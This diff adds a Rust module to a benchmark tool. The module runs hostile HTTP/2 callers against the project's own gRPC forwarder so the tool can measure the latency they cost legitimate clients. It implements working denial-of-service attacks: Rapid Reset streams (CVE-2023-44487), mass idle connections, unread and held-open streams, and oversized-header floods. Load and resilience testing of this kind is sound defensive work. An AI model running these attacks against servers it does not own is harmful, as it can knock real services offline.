@@ -1,0 +1,342 @@
+//! `--attack`: a hostile HTTP/2 caller run alongside the load, against the same `--forwarder`
+//! (plaintext), so that the load's latency shows what the attack costs well-behaved callers
+//! (`scripts/measure-bench http2`). The attacker speaks raw HTTP/2 with the h2 crate, since a
+//! gRPC client would not misbehave. Whenever the server closes an attacker connection, the
+//! attacker counts it and connects again, until the run ends.
+
+use std::{
+    sync::{
+        Arc,
+        atomic::{AtomicBool, AtomicU64, Ordering},
+    },
+    time::Duration,
+};
+
+use bytes::Bytes;
+use clap::ValueEnum;
+use h2::{
+    SendStream,
+    client::{ResponseFuture, SendRequest},
+};
+use leaderlink::proto::v1::{Acks, ForwardRequest, PartitionData, Record};
+use prost::Message;
+use tokio::{net::TcpStream, task::JoinHandle};
+
+/// What the attacker does.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+pub enum Attack {
+    /// Forward streams opened and reset at once, in a tight loop (CVE-2023-44487).
+    RapidReset,
+    /// [`IDLE_CONNECTIONS`] HTTP/2 connections opened and left idle.
+    IdleConnections,
+    /// A ForwardStream that sends one-record requests as fast as the server's window takes them
+    /// and never reads an answer.
+    UnreadStream,
+    /// [`OPEN_STREAMS`] ForwardStreams on each of [`OPEN_STREAM_CONNECTIONS`] connections, each
+    /// with one request, never closed.
+    OpenStreams,
+    /// [`BIG_HEADER_CALLERS`] callers in a loop of Forward calls each carrying a 15 KiB header
+    /// (under the default `http2_max_header_list_size` of 16 KiB: served, and decoded each time).
+    BigHeaders,
+}
+
+/// Idle connections the `idle-connections` attacker holds.
+const IDLE_CONNECTIONS: usize = 1000;
+/// Streams per connection of `open-streams` (under the default `http2_max_concurrent_streams`
+/// of 200, so that none is refused).
+const OPEN_STREAMS: usize = 190;
+/// Connections of `open-streams`.
+const OPEN_STREAM_CONNECTIONS: usize = 5;
+/// Concurrent callers of `big-headers`.
+const BIG_HEADER_CALLERS: usize = 16;
+
+/// What the attacker did: `actions` (streams reset, connections opened, requests sent, calls
+/// made) and connections the server closed on it.
+#[derive(Default)]
+pub struct Tally {
+    pub actions: AtomicU64,
+    pub closed: AtomicU64,
+}
+
+/// Starts `attack` on `addr` (host:port), writing to `topic` partition 0 where it sends
+/// requests, until `stop`. The attacker runs on a thread and runtime of its own, so that its
+/// loops do not delay the load's tasks on the bench's runtime (it still shares the machine's
+/// cores with them and with the server).
+pub fn spawn(
+    attack: Attack,
+    addr: String,
+    topic: String,
+    stop: Arc<AtomicBool>,
+) -> (std::thread::JoinHandle<()>, Arc<Tally>) {
+    let tally = Arc::new(Tally::default());
+    let a = Attacker {
+        addr,
+        topic,
+        stop,
+        tally: tally.clone(),
+    };
+    let runtime = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .expect("the attacker's runtime");
+    let job = std::thread::spawn(move || {
+        runtime.block_on(async move {
+            match attack {
+                Attack::RapidReset => a.rapid_reset().await,
+                Attack::IdleConnections => a.idle_connections().await,
+                Attack::UnreadStream => a.unread_stream().await,
+                Attack::OpenStreams => {
+                    let a = Arc::new(a);
+                    let each: Vec<_> = (0..OPEN_STREAM_CONNECTIONS)
+                        .map(|_| tokio::spawn(a.clone().open_streams()))
+                        .collect();
+                    for e in each {
+                        let _ = e.await;
+                    }
+                }
+                Attack::BigHeaders => {
+                    let a = Arc::new(a);
+                    let each: Vec<_> = (0..BIG_HEADER_CALLERS)
+                        .map(|_| tokio::spawn(a.clone().big_headers()))
+                        .collect();
+                    for e in each {
+                        let _ = e.await;
+                    }
+                }
+            }
+        });
+    });
+    (job, tally)
+}
+
+type Conn = (SendRequest<Bytes>, JoinHandle<Result<(), h2::Error>>);
+
+struct Attacker {
+    addr: String,
+    topic: String,
+    stop: Arc<AtomicBool>,
+    tally: Arc<Tally>,
+}
+
+impl Attacker {
+    fn stopped(&self) -> bool {
+        self.stop.load(Ordering::Relaxed)
+    }
+
+    fn count(&self) {
+        self.tally.actions.fetch_add(1, Ordering::Relaxed);
+    }
+
+    /// A new HTTP/2 connection (`None`, after a short pause, when the server refuses it).
+    async fn connect(&self) -> Option<Conn> {
+        let conn = async {
+            let tcp = TcpStream::connect(&self.addr).await.ok()?;
+            let _ = tcp.set_nodelay(true);
+            let (send, conn) = h2::client::handshake(tcp).await.ok()?;
+            Some((send, tokio::spawn(conn)))
+        }
+        .await;
+        if conn.is_none() {
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+        conn
+    }
+
+    /// The connection `conn` is over: counted, and its task stopped.
+    fn lost(&self, conn: &JoinHandle<Result<(), h2::Error>>) {
+        if !self.stopped() {
+            self.tally.closed.fetch_add(1, Ordering::Relaxed);
+        }
+        conn.abort();
+    }
+
+    /// One gRPC message: a one-record Forward request for the topic's partition 0, acks=1.
+    fn message(&self, id: u64) -> Bytes {
+        let body = ForwardRequest {
+            id,
+            acks: Acks::Leader as i32,
+            partitions: vec![PartitionData {
+                topic: self.topic.clone(),
+                partition: 0,
+                records: vec![Record {
+                    key: None,
+                    value: Some(Bytes::from_static(b"attack")),
+                    headers: vec![],
+                    timestamp_ms: 0,
+                }],
+                record_batch: Bytes::new(),
+            }],
+            ..Default::default()
+        }
+        .encode_to_vec();
+        let mut m = Vec::with_capacity(5 + body.len());
+        m.push(0);
+        m.extend_from_slice(&(body.len() as u32).to_be_bytes());
+        m.extend_from_slice(&body);
+        Bytes::from(m)
+    }
+
+    async fn rapid_reset(&self) {
+        while !self.stopped() {
+            let Some((mut send, conn)) = self.connect().await else {
+                continue;
+            };
+            while !self.stopped() {
+                let Ok(ready) = send.ready().await else { break };
+                send = ready;
+                let Ok((_, mut stream)) = send.send_request(headers("Forward", 0), false) else {
+                    break;
+                };
+                stream.send_reset(h2::Reason::CANCEL);
+                self.count();
+                // Let the load's tasks run on this runtime too.
+                tokio::task::yield_now().await;
+            }
+            self.lost(&conn);
+        }
+    }
+
+    async fn idle_connections(&self) {
+        let mut held: Vec<Conn> = Vec::with_capacity(IDLE_CONNECTIONS);
+        while !self.stopped() {
+            held.retain(|(_, conn)| {
+                let over = conn.is_finished();
+                if over {
+                    self.lost(conn);
+                }
+                !over
+            });
+            while held.len() < IDLE_CONNECTIONS && !self.stopped() {
+                match self.connect().await {
+                    Some(c) => {
+                        held.push(c);
+                        self.count();
+                    }
+                    None => break,
+                }
+            }
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+        for (_, conn) in held {
+            conn.abort();
+        }
+    }
+
+    async fn unread_stream(&self) {
+        let mut id = 0;
+        while !self.stopped() {
+            let Some((mut send, conn)) = self.connect().await else {
+                continue;
+            };
+            // The answers are never polled: nothing of them is read or released.
+            let Ok((_answers, mut requests)) =
+                send.send_request(headers("ForwardStream", 0), false)
+            else {
+                self.lost(&conn);
+                continue;
+            };
+            while !self.stopped() {
+                id += 1;
+                let m = self.message(id);
+                // Only as much as the server's window takes: the attacker's memory stays flat.
+                requests.reserve_capacity(m.len());
+                let room = tokio::time::timeout(
+                    Duration::from_millis(100),
+                    std::future::poll_fn(|cx| requests.poll_capacity(cx)),
+                )
+                .await;
+                match room {
+                    Err(_) => continue,
+                    Ok(Some(Ok(_))) => {}
+                    Ok(_) => break,
+                }
+                if requests.send_data(m, false).is_err() {
+                    break;
+                }
+                self.count();
+            }
+            self.lost(&conn);
+        }
+    }
+
+    /// Opens a stream for `method` (with `padding` bytes of extra header) on `send` and sends
+    /// request `id` on it, ending the stream if `end`; `None` once the connection is over.
+    async fn request(
+        &self,
+        send: SendRequest<Bytes>,
+        method: &str,
+        padding: usize,
+        id: u64,
+        end: bool,
+    ) -> Option<(SendRequest<Bytes>, ResponseFuture, SendStream<Bytes>)> {
+        let mut send = send.ready().await.ok()?;
+        let (answer, mut requests) = send.send_request(headers(method, padding), false).ok()?;
+        requests.send_data(self.message(id), end).ok()?;
+        self.count();
+        Some((send, answer, requests))
+    }
+
+    async fn open_streams(self: Arc<Self>) {
+        let mut id = 0;
+        while !self.stopped() {
+            let Some((mut send, conn)) = self.connect().await else {
+                continue;
+            };
+            let mut open = Vec::with_capacity(OPEN_STREAMS);
+            while open.len() < OPEN_STREAMS && !self.stopped() {
+                id += 1;
+                let Some((ready, answer, requests)) =
+                    self.request(send, "ForwardStream", 0, id, false).await
+                else {
+                    break;
+                };
+                send = ready;
+                open.push((answer, requests));
+            }
+            // Held open until the run ends or the server closes the connection.
+            while !self.stopped() && !conn.is_finished() {
+                tokio::time::sleep(Duration::from_millis(100)).await;
+            }
+            drop(open);
+            self.lost(&conn);
+        }
+    }
+
+    async fn big_headers(self: Arc<Self>) {
+        let mut id = 0;
+        while !self.stopped() {
+            let Some((mut send, conn)) = self.connect().await else {
+                continue;
+            };
+            while !self.stopped() {
+                id += 1;
+                let Some((ready, answer, _)) =
+                    self.request(send, "Forward", 15 * 1024, id, true).await
+                else {
+                    break;
+                };
+                send = ready;
+                let Ok(answer) = answer.await else { break };
+                let mut body = answer.into_body();
+                while let Some(Ok(d)) = body.data().await {
+                    let _ = body.flow_control().release_capacity(d.len());
+                }
+            }
+            self.lost(&conn);
+        }
+    }
+}
+
+/// The headers of a gRPC call to `method` of the Forwarder, with `padding` bytes of an extra
+/// header when not 0.
+fn headers(method: &str, padding: usize) -> http::Request<()> {
+    let mut r = http::Request::post(format!(
+        "http://leaderlink/leaderlink.v1.Forwarder/{method}"
+    ))
+    .header("content-type", "application/grpc")
+    .header("te", "trailers");
+    if padding > 0 {
+        r = r.header("x-padding", "p".repeat(padding));
+    }
+    r.body(()).expect("valid request head")
+}
